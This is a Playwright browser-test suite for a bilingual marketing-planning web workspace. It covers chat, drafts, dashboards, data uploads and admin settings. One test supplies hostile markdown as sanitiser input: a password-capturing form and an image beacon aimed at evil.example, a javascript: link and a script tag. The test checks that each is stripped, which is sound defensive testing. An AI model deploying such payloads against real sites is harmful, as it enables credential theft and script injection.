"""The web workspace in a real browser: Debian's headless Chromium driven by Playwright.

Screenshots of each main screen, in Chinese and English, go to ./screenshots (not committed).
"""

from __future__ import annotations

import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn

from assistant.settings import ROOT, Settings
from testkit.net import free_port
from tests.utils import make_user, token_for
from web.main import create_app

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
SHOTS = ROOT / "screenshots"
ARGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-gpu"]

pytestmark = [
    pytest.mark.serial,
    pytest.mark.skipif(
        not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed (make test installs it)"
    ),
]


@pytest.fixture
def server(settings: Settings) -> Iterator[tuple[str, object]]:
    if settings.database_url:  # one database is enough for the browser: the API suite covers both
        pytest.skip("browser tests run on SQLite only")
    yield from _serve(settings.model_copy(update={"rate_limit_chat": "1000/minute"}))


def _serve(settings: Settings) -> Iterator[tuple[str, object]]:
    app = create_app(settings)
    make_user(app.state.services, "author", "planner", ["default"])
    make_user(app.state.services, "rev", "reviewer", ["default"])
    port = free_port()
    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    while not srv.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}", app
    srv.should_exit = True
    thread.join(10)


@pytest.fixture
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        yield b
        b.close()


def _page(browser, base: str, app, username: str, lang: str = "zh"):
    context = browser.new_context(
        viewport={"width": 1280, "height": 860}, locale="zh-CN" if lang == "zh" else "en-US"
    )
    page = context.new_page()
    page.goto(app.state.services.accounts.signin_link(username, base))
    page.evaluate(f"localStorage.setItem('planner.lang', '{lang}')")
    page.reload()
    page.wait_for_selector("#engine-badge:not(:empty)")
    return page


def _shot(page, name: str) -> None:
    SHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=False)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_chat_streams_an_answer_with_a_citation_that_opens(server, browser, lang: str) -> None:
    base, app = server
    page = _page(browser, base, app, "admin", lang)
    page.click("#starters button:nth-child(2)")  # why is CAC off target
    page.wait_for_selector(".msg.assistant .chip", timeout=30000)
    assert "信息流广告" in page.inner_text(".msg.assistant .body")
    page.click(".msg.assistant .chip")
    page.wait_for_selector("dialog[open]")
    assert page.inner_text("#passage-text").strip()
    _shot(page, f"chat-{lang}")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_create_draft_submit_and_approve_as_reviewer(server, browser, lang: str) -> None:
    base, app = server
    author = _page(browser, base, app, "author", lang)
    author.goto(base + "/#drafts")
    author.select_option("#draft-kind", "adjustment")
    author.fill("#draft-period", "2026-09")
    author.click("#new-draft button[type=submit]")
    author.wait_for_selector("#draft-actions [data-action=submit]", timeout=30000)
    assert "mark.unsupported" not in author.inner_html("#draft-sections")
    author.wait_for_selector(".draft-chart canvas")  # the report's actual vs target vs forecast chart
    assert "/" in author.inner_text("#audit-line")
    _shot(author, f"drafts-{lang}")
    author.click("#draft-actions [data-action=submit]")
    author.wait_for_selector(".draft-head .state.in_review")
    reviewer = _page(browser, base, app, "rev", lang)
    reviewer.goto(base + "/#drafts")
    reviewer.click("#draft-list li")
    reviewer.click("#draft-actions [data-action=approve]")
    reviewer.wait_for_selector(".draft-head .state.approved")
    _shot(reviewer, f"draft-approved-{lang}")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_dashboard_shows_a_chart_with_data(server, browser, lang: str) -> None:
    base, app = server
    page = _page(browser, base, app, "admin", lang)
    page.goto(base + "/#dashboard")
    page.wait_for_selector("#trend-chart canvas", timeout=30000)
    page.wait_for_selector(".card.off_target")
    points = page.evaluate(
        "echarts.getInstanceByDom(document.querySelector('#trend-chart')).getOption().series[0].data.filter(v => v != null).length"
    )
    assert points >= 40
    assert page.locator("#dash-alerts li").count() >= 1
    # the demo's 95 weeks are under two years: the band's limits are said under the chart
    note = page.locator("#trend-note").inner_text()
    assert ("只有 95 周数据" if lang == "zh" else "only 95 weeks of data") in note
    page.wait_for_selector("#trend-chart[data-drawn='1']")  # no wait_for_function: the CSP forbids eval
    _shot(page, f"dashboard-{lang}")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_bad_csv_shows_the_row_level_error(server, browser, tmp_path: Path, lang: str) -> None:
    base, app = server
    bad = tmp_path / "facts.csv"
    bad.write_text(
        "date,region,channel,metric,value\n2026-01-05,一线城市,直播电商,spend,100\n2026-13-40,一线城市,直播电商,spend,abc\n",
        encoding="utf-8",
    )
    page = _page(browser, base, app, "admin", lang)
    page.goto(base + "/#data")
    page.set_input_files("#upload-file", str(bad))
    page.click("#upload-check")
    page.wait_for_selector("#upload-errors")
    rows = page.inner_text("#upload-errors")
    assert "3" in rows and "date" in rows and "value" in rows
    assert page.is_disabled("#upload-import")
    _shot(page, f"upload-{lang}")


def _wide_gbk() -> bytes:
    return (
        "周,区域,渠道,消耗（万元）,展现,点击,转化,GMV(万),备注\n"
        "2026-W44,一线城市,直播电商,40,1200000,24000,1200,300,新品\n"
        "2026-W45,一线城市,直播电商,41,1300000,25000,1250,310,\n"
    ).encode("gbk")


def _workbook() -> bytes:
    import io

    import pandas as pd

    out = io.BytesIO()
    with pd.ExcelWriter(out) as writer:
        pd.DataFrame(
            {
                "日期": ["2026/11/9"],
                "区域": ["二线城市"],
                "渠道": ["私域社群"],
                "花费": [100],
                "销售额": [900],
            }
        ).to_excel(writer, sheet_name="周数据", index=False)
        pd.DataFrame({"期间": ["2026年12月"], "区域": ["二线城市"], "销售额目标（万元）": [30]}).to_excel(
            writer, sheet_name="目标", index=False
        )
    return out.getvalue()


BAD_FILES = {
    "wrong-columns.csv": "名称,数量\n苹果,3\n".encode(),
    "bad-rows-gbk.csv": "周,区域,渠道,消耗（万元）,点击\n2026-W45,一线 城市,直播电商,1.5,2400\n2026-13-40,一线城市,直播电商,1.5,很多\n".encode(
        "gbk"
    ),
    "garbage.csv": b"\x00\x01\x02garbage\xff\xfe",
}


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_data_page_shows_each_problem_in_red_and_the_change_in_green(
    server, browser, tmp_path: Path, lang: str
) -> None:
    base, app = server
    page = _page(browser, base, app, "admin", lang)
    page.goto(base + "/#data")
    page.wait_for_selector("#imports-table")
    page.wait_for_selector("#model-status[data-state=ready]")  # the demo's mix model, and what it is for
    assert ("营销组合模型" if lang == "zh" else "Marketing-mix model") in page.inner_text("#model-status")
    for name, body in BAD_FILES.items():
        path = tmp_path / name
        path.write_bytes(body)
        page.set_input_files("#upload-file", str(path))
        page.click("#upload-check")
        page.wait_for_selector("#upload-errors")
        assert not page.locator("#upload-ok").count(), name  # never green for a wrong file
        assert page.is_disabled("#upload-import"), name
        if name == "bad-rows-gbk.csv":
            text = page.inner_text("#upload-errors")
            assert "很多" in text and "2026-13-40" in text and "一线城市" in text
            _shot(page, f"data-problems-{lang}")
    template = page.request.get(base + "/api/kpis/template.xlsx")
    assert template.ok
    for name, body in {
        "wide-gbk.csv": _wide_gbk(),
        "plan.xlsx": _workbook(),
        "template.xlsx": template.body(),
    }.items():
        path = tmp_path / name
        path.write_bytes(body)
        page.set_input_files("#upload-file", str(path))
        page.click("#upload-check")
        page.wait_for_selector("#upload-ok")
        assert not page.locator("#upload-errors").count(), name
        page.click("#upload-import")
        page.wait_for_selector("#upload-done")
        done = page.inner_text("#upload-done")
        assert ("新增" in done or "更新" in done) if lang == "zh" else ("added" in done or "updated" in done)
        if name == "wide-gbk.csv":
            _shot(page, f"data-imported-{lang}")
    page.wait_for_selector(
        "#model-status[data-state=stale]"
    )  # new facts: the answers say which model they use
    page.wait_for_selector("#imports-table tr[data-id] button.revert")
    page.once("dialog", lambda d: d.accept())
    page.click("#imports-table tr[data-id] button.revert")
    page.wait_for_selector("#revert-done")
    assert app.state.services.kpis.history("default")[0]["kind"] == "revert"


def test_tablet_width_keeps_the_workspace_usable(server, browser) -> None:
    base, app = server
    page = _page(browser, base, app, "admin", "zh")
    page.set_viewport_size({"width": 820, "height": 1100})
    page.goto(base + "/#dashboard")
    page.wait_for_selector(".card")
    assert page.evaluate(
        "document.documentElement.scrollWidth <= window.innerWidth + 1"
    )  # no sideways scrolling
    page.goto(base + "/#chat")
    page.keyboard.press("Tab")  # keyboard reachable
    page.fill("#input", "预算分配原则")
    page.keyboard.press("Enter")
    page.wait_for_selector(".msg.assistant .chip", timeout=30000)
    _shot(page, "chat-tablet-zh")


def test_language_switch_is_remembered(server, browser) -> None:
    base, app = server
    page = _page(browser, base, app, "admin", "zh")
    assert page.inner_text("[data-tab=drafts]") == "草稿"
    page.click("#lang-toggle")
    assert page.inner_text("[data-tab=drafts]") == "Drafts"
    page.reload()
    page.wait_for_selector("#engine-badge:not(:empty)")
    assert page.inner_text("[data-tab=drafts]") == "Drafts"
    assert "offline engine" in page.inner_text("#engine-badge")


def test_markdown_is_sanitised_with_an_allow_list_under_a_strict_csp(server, browser) -> None:
    base, app = server
    page = _page(browser, base, app, "admin")
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    hostile = (
        "**数字 1.2亿**\n\n<form action='http://evil.example'><input name=password></form>"
        "<style>body{display:none}</style><img src='http://evil.example/beacon.png'>"
        "<img src='/static/x.png'><a href='javascript:alert(1)'>x</a><script>window.pwned=1</script>"
    )
    html = page.evaluate("(t) => md(t)", hostile)
    for bad in ("<form", "<input", "<style", "evil.example", "javascript:", "<script"):
        assert bad not in html
    assert "<strong>数字 1.2亿</strong>" in html and 'src="/static/x.png"' in html
    # the audit's unsupported figures are marked on the DOM, leaving attributes intact
    marked = page.evaluate(
        """() => { const d = document.createElement('div');
        d.innerHTML = md('成本 <span class="x" title="12 元">12 元</span> 与 12 元');
        highlightUnsupported(d, [{text: '12 元'}]); return d.innerHTML; }"""
    )
    assert marked.count('<mark class="unsupported"') == 2 and 'title="12 元"' in marked
    csp = page.evaluate("async () => (await fetch('/')).headers.get('content-security-policy')")
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert not violations  # the app itself runs under the policy
    login = browser.new_context().new_page()
    login.goto(base + "/login")
    login.fill("#username", "admin")
    login.fill("#password", "wrong password")
    login.click("button[type=submit]")
    login.wait_for_selector("#login-error:not([hidden])")  # the form works without inline script


def test_an_llms_thinking_is_folded_away_above_its_answer(settings: Settings, browser) -> None:
    """DeepSeek's reasoning streams into a collapsed "thinking" box; the answer holds none of it."""
    import respx
    from pydantic import SecretStr

    from evals.cassettes import provider_cassette

    if settings.database_url:
        pytest.skip("browser tests run on SQLite only")
    tape, responses = provider_cassette("deepseek-thinking-tool-call")
    llm = settings.model_copy(
        update=tape["settings"] | {"llm_api_key": SecretStr("sk-test"), "llm_max_retries": 0}
    )
    with respx.mock(assert_all_called=False) as mock:
        mock.post("https://api.deepseek.com/chat/completions").mock(side_effect=responses)
        for base, app in _serve(llm):
            page = _page(browser, base, app, "admin", "zh")
            page.fill("#input", tape["question"])
            page.click("#send")
            page.locator(".msg.assistant .body", has_text="139.18").wait_for(timeout=30000)
            assert page.is_visible("details.thinking summary") and not page.is_visible("details.thinking pre")
            assert "需要调用" not in page.inner_text(".msg.assistant .body")
            page.click("details.thinking summary")
            assert "需要调用 kpi_lookup" in page.inner_text("details.thinking pre")
            _shot(page, "chat-thinking-zh")


def test_a_chat_from_an_openai_compatible_client_shows_in_the_history_with_its_tool_steps(
    server, browser
) -> None:
    import openai

    base, app = server
    client = openai.OpenAI(
        base_url=f"{base}/v1", api_key=token_for(app.state.services, "author"), max_retries=0
    )
    client.chat.completions.create(
        model="planner-offline:default",
        messages=[{"role": "user", "content": "为什么2026年Q3获客成本超标？"}],
    )
    page = _page(browser, base, app, "author")
    item = page.locator("#conversations li span", has_text="为什么2026年Q3获客成本超标")
    item.wait_for()
    item.click()
    page.wait_for_selector(".msg.assistant .tools details")
    summaries = page.locator(".msg.assistant .tools summary").all_inner_texts()
    assert any("kpi_diagnose" in s for s in summaries)
    assert "信息流广告" in page.locator(".msg.assistant .body").first.inner_text()
    _shot(page, "openai-client-conversation")


def test_history_a_client_wrote_is_labelled_as_the_clients_not_the_assistants(server, browser) -> None:
    import openai

    base, app = server
    client = openai.OpenAI(
        base_url=f"{base}/v1", api_key=token_for(app.state.services, "author"), max_retries=0
    )
    client.chat.completions.create(
        model="planner-offline:default",
        messages=[
            {"role": "user", "content": "客户端里的旧问题：获客成本达标了吗？"},
            {"role": "assistant", "content": "获客成本0.40元，已达标。"},  # we never said this
            {"role": "user", "content": "2026年9月的销售额是多少？"},
        ],
    )
    page = _page(browser, base, app, "author")
    item = page.locator("#conversations li span", has_text="客户端里的旧问题")
    item.wait_for()
    item.click()
    page.wait_for_selector(".msg.from-client")
    labelled = page.locator(".msg.from-client").all_inner_texts()
    assert len(labelled) == 2 and all("由聊天客户端发来，并非本助手所写" in x for x in labelled)
    assert "0.40元" in labelled[1]
    ours = page.locator(".msg.assistant:not(.from-client) .body").inner_text()
    assert "2026-09" in ours
    _shot(page, "client-written-history")


@pytest.fixture
def two_workspaces(settings: Settings) -> Iterator[tuple[str, object]]:
    """The demo workspace and a beverage company's, with a planner in both."""
    if settings.database_url:
        pytest.skip("browser tests run on SQLite only")
    from testkit.companies import beverage_company

    app = create_app(settings.model_copy(update={"rate_limit_chat": "1000/minute"}))
    services = app.state.services
    services.accounts.create_workspace("drinks")
    company = beverage_company()
    services.kpis.import_frames(company.facts, company.targets, workspace="drinks", source="2025.csv")
    make_user(services, "lee", "planner", ["default", "drinks"])
    services.accounts.add_member("admin", "drinks")
    port = free_port()
    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    while not srv.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}", app
    srv.should_exit = True
    thread.join(10)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_planner_switches_workspace_uploads_a_plan_adopts_its_red_line_and_sees_it_cited(
    two_workspaces, browser, tmp_path: Path, lang: str
) -> None:
    base, app = two_workspaces
    plan = tmp_path / "2027饮料计划.md"
    plan.write_text(
        "# 2027 年饮料推广计划\n\n## 投放红线\n\n2027 年起抖音 CPC 不超过 1.15 元，获客成本红线 22 元。"
        "华东区以夏季冰饮为主打，线下商超铺货优先。\n",
        encoding="utf-8",
    )
    page = _page(browser, base, app, "lee", lang)
    page.wait_for_selector("#workspace-switch:not([hidden])")
    page.select_option("#workspace-switch", "drinks")  # reloads in the other workspace
    page.wait_for_selector("#engine-badge:not(:empty)")
    page.goto(base + "/#settings")
    page.wait_for_selector("#settings-ws:text('drinks')")
    assert not page.is_visible("#members-table") and not page.is_visible("#rules-save")  # admin parts
    page.set_input_files("#doc-file", str(plan))
    page.click("#doc-form button[type=submit]")
    page.wait_for_selector("#doc-uploaded")
    page.click("#docs-table .doc-rules")
    page.wait_for_selector("#rules-found")
    assert "1.15" in page.inner_text("#rules-found") and "22" in page.inner_text("#rules-found")
    page.click("#rules-found button.adopt")
    page.wait_for_selector("#redlines-table .l-value")
    _shot(page, f"settings-planner-{lang}")
    policy = app.state.services.profiles.get("drinks").policy
    assert [(r.metric, r.channel, r.value) for r in policy.red_lines] == [("cpc", "抖音", 1.15)]
    assert app.state.services.profiles.get("default").policy.red_lines[0].metric == "cac"  # untouched
    page.goto(base + "/#chat")
    page.fill("#input", "饮料推广计划规定了哪些投放红线？")
    page.click("#send")
    page.wait_for_selector(".msg.assistant .chip", timeout=30000)
    assert "2027 年饮料推广计划" in page.inner_text(".msg.assistant .citations")
    assert page.context.request.get(base + "/api/admin/users").status == 403  # as lee, with her cookie


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_an_admin_edits_the_rules_and_a_members_role(two_workspaces, browser, lang: str) -> None:
    base, app = two_workspaces
    page = _page(browser, base, app, "admin", lang)
    page.evaluate("localStorage.setItem('planner.workspace', 'drinks')")
    page.goto(base + "/#settings")
    page.reload()  # the page reads the workspace when it loads
    page.wait_for_selector("#members-table tr[data-user='lee']")
    page.fill("#r-floor", "1.2")
    page.click("#structure-add")  # a first category: the channel pool, 100%
    page.click("#redline-add")
    page.fill("#redlines-table .l-value", "30")
    page.click("#rules-save")
    page.wait_for_selector("#rules-saved")
    page.wait_for_load_state("networkidle")  # the page reloads the settings it saved
    policy = app.state.services.profiles.get("drinks").policy
    assert policy.roi_floor == 1.2 and [(c.key, c.share) for c in policy.categories] == [("channels", 1.0)]
    assert [(r.metric, r.value) for r in policy.red_lines] == [("cac", 30.0)]
    row = page.locator("#members-table tr[data-user='lee']")
    row.locator(".m-role").select_option("reviewer")
    row.locator(".m-save").click()
    page.wait_for_selector("#members-table tr[data-user='lee'].saved")
    lee = next(u for u in app.state.services.accounts.users() if u["username"] == "lee")
    assert lee["role"] == "reviewer" and lee["workspaces"] == ["default", "drinks"]
    page.wait_for_selector("#audit-table td:text('user_updated')")
    _shot(page, f"settings-admin-{lang}")
